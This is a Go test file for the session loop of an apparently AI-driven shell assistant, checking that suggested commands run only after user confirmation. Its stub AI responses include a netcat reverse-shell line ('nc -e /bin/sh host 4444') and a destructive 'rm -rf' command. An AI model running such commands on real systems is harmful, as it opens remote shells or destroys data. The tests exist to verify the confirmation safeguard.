package session_test

import (
	"context"
	"errors"
	"fmt"
	"os"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"
	"go.uber.org/zap/zaptest/observer"

	"github.com/doeshing/hackassist/internal/application/session"
	"github.com/doeshing/hackassist/internal/domain"
	"github.com/doeshing/hackassist/internal/infrastructure/ai"
	"github.com/doeshing/hackassist/internal/infrastructure/executor"
	"github.com/doeshing/hackassist/internal/pkg/logger"
)

type harness struct {
	loop      *session.Loop
	session   *domain.Session
	input     *scriptedInput
	provider  *stubProvider
	confirmer *stubConfirmer
	executor  *stubExecutor
	presenter *recordingPresenter
}

func newHarness(lines ...string) *harness {
	s := domain.NewSession(fixedEnv())
	h := &harness{
		session:   s,
		input:     &scriptedInput{lines: lines},
		provider:  &stubProvider{},
		confirmer: &stubConfirmer{},
		executor:  &stubExecutor{},
		presenter: &recordingPresenter{},
	}
	h.loop = &session.Loop{
		Session:   s,
		Tracker:   session.NewTracker(s, 10, 1000),
		Provider:  h.provider,
		Extractor: ai.Extractor{},
		Executor:  h.executor,
		Confirmer: h.confirmer,
		Input:     h.input,
		Presenter: h.presenter,
		Logger:    logger.New(false),
	}
	return h
}

// steps runs n input lines without closing the session.
func (h *harness) steps(t *testing.T, n int) {
	t.Helper()
	require.NoError(t, h.loop.Start())
	for i := 0; i < n; i++ {
		more, err := h.loop.Step(context.Background())
		require.NoError(t, err)
		require.True(t, more)
	}
}

var ignoreTime = cmpopts.IgnoreFields(domain.Exchange{}, "RecordedAt")

func TestHistoryCountsCompletedTurns(t *testing.T) {
	h := newHarness("ls please", "p", "", "explain tcp", "whoami", "c")
	h.provider.responses = []string{
		"RESPONSE: listing\nCOMMAND: ls",
		"RESPONSE: TCP is a transport protocol\nCOMMAND: NONE",
		"RESPONSE: shows user\nCOMMAND: whoami",
	}
	h.confirmer.decisions = []domain.Decision{domain.DecisionAccept, domain.DecisionDecline}
	h.executor.result = domain.ExecutionResult{Stdout: "a.txt\n"}

	h.steps(t, 5)

	want := []domain.Exchange{
		{
			UserInput:        "ls please",
			AIResponseText:   "RESPONSE: listing\nCOMMAND: ls",
			SuggestedCommand: "ls",
			ExecutionResult:  &domain.ExecutionResult{Stdout: "a.txt\n"},
		},
		{UserInput: "explain tcp", AIResponseText: "RESPONSE: TCP is a transport protocol\nCOMMAND: NONE"},
		{UserInput: "whoami", AIResponseText: "RESPONSE: shows user\nCOMMAND: whoami"},
	}
	if diff := cmp.Diff(want, h.session.History(), ignoreTime); diff != "" {
		t.Errorf("history mismatch (-want +got):\n%s", diff)
	}
	assert.Len(t, h.provider.prompts, 3)
	assert.Equal(t, domain.ModeAwaitingPrompt, h.session.Mode())

	more, err := h.loop.Step(context.Background())
	require.NoError(t, err)
	assert.False(t, more)
	assert.Equal(t, domain.ModeClosed, h.session.Mode())
	assert.Zero(t, h.session.Len())
}

func TestDeclineNeverRunsCommand(t *testing.T) {
	for _, n := range []int{1, 3} {
		t.Run(fmt.Sprintf("%d declines", n), func(t *testing.T) {
			lines := make([]string, n)
			responses := make([]string, n)
			for i := range lines {
				lines[i] = fmt.Sprintf("wipe disk %d", i)
				responses[i] = "RESPONSE: careful\nCOMMAND: rm -rf /tmp/x"
			}
			h := newHarness(lines...)
			h.provider.responses = responses

			h.steps(t, n)

			assert.Empty(t, h.executor.ran)
			assert.Len(t, h.confirmer.asked, n)
			assert.Equal(t, n, h.session.Len())
			for _, ex := range h.session.History() {
				assert.Empty(t, ex.SuggestedCommand)
				assert.Nil(t, ex.ExecutionResult)
			}
		})
	}
}

func TestNoMarkerSkipsConfirmation(t *testing.T) {
	h := newHarness("what is a reverse shell?")
	h.provider.responses = []string{"A reverse shell connects back to the attacker.\n\n```\nnc -e /bin/sh host 4444\n```"}

	h.steps(t, 1)

	assert.Empty(t, h.confirmer.asked)
	assert.Empty(t, h.executor.ran)
	assert.NotContains(t, h.presenter.events, "suggestion")
	assert.Equal(t, 1, h.session.Len())
}

func TestListFilesScenario(t *testing.T) {
	dir := t.TempDir()
	require.NoError(t, os.WriteFile(dir+"/notes.txt", []byte("x"), 0o600))

	h := newHarness("list files")
	h.provider.responses = []string{"RESPONSE: This lists all files.\nCOMMAND: ls -la"}
	h.confirmer.decisions = []domain.Decision{domain.DecisionAccept}
	h.loop.Executor = executor.NewLocalExecutor("/bin/sh", dir)

	h.steps(t, 1)

	require.Len(t, h.confirmer.asked, 1)
	assert.Equal(t, "ls -la", h.confirmer.asked[0].Command)
	history := h.session.History()
	require.Len(t, history, 1)
	assert.Equal(t, "ls -la", history[0].SuggestedCommand)
	require.NotNil(t, history[0].ExecutionResult)
	assert.Equal(t, 0, history[0].ExecutionResult.ExitCode)
	assert.True(t, history[0].ExecutionResult.Succeeded())
	assert.Contains(t, history[0].ExecutionResult.Stdout, "notes.txt")
	assert.Equal(t, []string{"welcome", "thinking", "response", "suggestion", "executing", "output", "hint"}, h.presenter.events)
}

func TestNonZeroExitContinues(t *testing.T) {
	h := newHarness("check", "again")
	h.provider.responses = []string{"COMMAND: false", "COMMAND: NONE"}
	h.confirmer.decisions = []domain.Decision{domain.DecisionAccept}
	h.executor.result = domain.ExecutionResult{ExitCode: 1}

	h.steps(t, 2)

	history := h.session.History()
	require.Len(t, history, 2)
	assert.False(t, history[0].ExecutionResult.Succeeded())
	assert.Contains(t, h.provider.prompts[1], "SYSTEM: Command output: Return code: 1")
}

func TestCloseTokenMakesNoAICall(t *testing.T) {
	for _, token := range []string{"c", "C", "  c  "} {
		h := newHarness(token, "never read")

		err := h.loop.Run(context.Background())

		require.NoError(t, err)
		assert.Empty(t, h.provider.prompts)
		assert.Equal(t, domain.ModeClosed, h.session.Mode())
		assert.Equal(t, 1, h.input.reads)
		assert.Equal(t, "goodbye", h.presenter.events[len(h.presenter.events)-1])
	}
}

func TestEndOfInputClosesCleanly(t *testing.T) {
	h := newHarness()

	require.NoError(t, h.loop.Run(context.Background()))
	assert.Equal(t, domain.ModeClosed, h.session.Mode())
}

func TestEndOfInputDuringConfirmation(t *testing.T) {
	h := newHarness("list")
	h.provider.responses = []string{"COMMAND: ls"}
	h.confirmer.err = errors.Join(errors.New("stdin closed"), errEOF())

	require.NoError(t, h.loop.Run(context.Background()))
	assert.Empty(t, h.executor.ran)
	assert.Equal(t, domain.ModeClosed, h.session.Mode())
}

func TestProviderTimeoutLeavesHistoryUnchanged(t *testing.T) {
	h := newHarness("hello", "scan ports")
	h.provider.responses = []string{"RESPONSE: hi\nCOMMAND: NONE"}
	h.steps(t, 1)
	before := h.session.History()

	h.provider.err = fmt.Errorf("%w: %v", domain.ErrRequestFailed, context.DeadlineExceeded)
	more, err := h.loop.Step(context.Background())

	require.NoError(t, err)
	assert.True(t, more)
	assert.Equal(t, domain.ModeAwaitingPrompt, h.session.Mode())
	if diff := cmp.Diff(before, h.session.History()); diff != "" {
		t.Errorf("history changed after failed request:\n%s", diff)
	}
	assert.Contains(t, h.presenter.events, "failure")
}

func TestSpawnFailureRecorded(t *testing.T) {
	h := newHarness("scan")
	h.provider.responses = []string{"COMMAND: nmap -sV localhost"}
	h.confirmer.decisions = []domain.Decision{domain.DecisionAccept}
	h.loop.Executor = executor.NewLocalExecutor("/nonexistent/shell", t.TempDir())

	h.steps(t, 1)

	history := h.session.History()
	require.Len(t, history, 1)
	assert.Equal(t, "nmap -sV localhost", history[0].SuggestedCommand)
	assert.Nil(t, history[0].ExecutionResult)
	assert.Contains(t, history[0].ExecutionError, domain.ErrSpawnFailed.Error())
	assert.Equal(t, domain.ModeAwaitingPrompt, h.session.Mode())
	assert.Contains(t, h.presenter.events, "failure")
}

func TestCancelledContextCloses(t *testing.T) {
	h := newHarness("list")
	ctx, cancel := context.WithCancel(context.Background())
	cancel()

	err := h.loop.Run(ctx)

	assert.ErrorIs(t, err, context.Canceled)
	assert.Equal(t, domain.ModeClosed, h.session.Mode())
	assert.Zero(t, h.input.reads)
}

func TestLoopRequiresDependencies(t *testing.T) {
	l := &session.Loop{}
	assert.Error(t, l.Run(context.Background()))
}

func TestLoopLogsTurn(t *testing.T) {
	core, logs := observer.New(zap.DebugLevel)
	h := newHarness("list")
	h.loop.Logger = logger.Wrap(zap.New(core))
	h.provider.responses = []string{"COMMAND: ls"}
	h.confirmer.decisions = []domain.Decision{domain.DecisionAccept}
	h.executor.result = domain.ExecutionResult{ExitCode: 0, Duration: 5 * time.Millisecond}

	require.NoError(t, h.loop.Run(context.Background()))

	executed := logs.FilterMessage("command executed").All()
	require.Len(t, executed, 1)
	assert.Equal(t, "ls", executed[0].ContextMap()["command"])
	assert.Len(t, logs.FilterMessage("session closed").All(), 1)
}
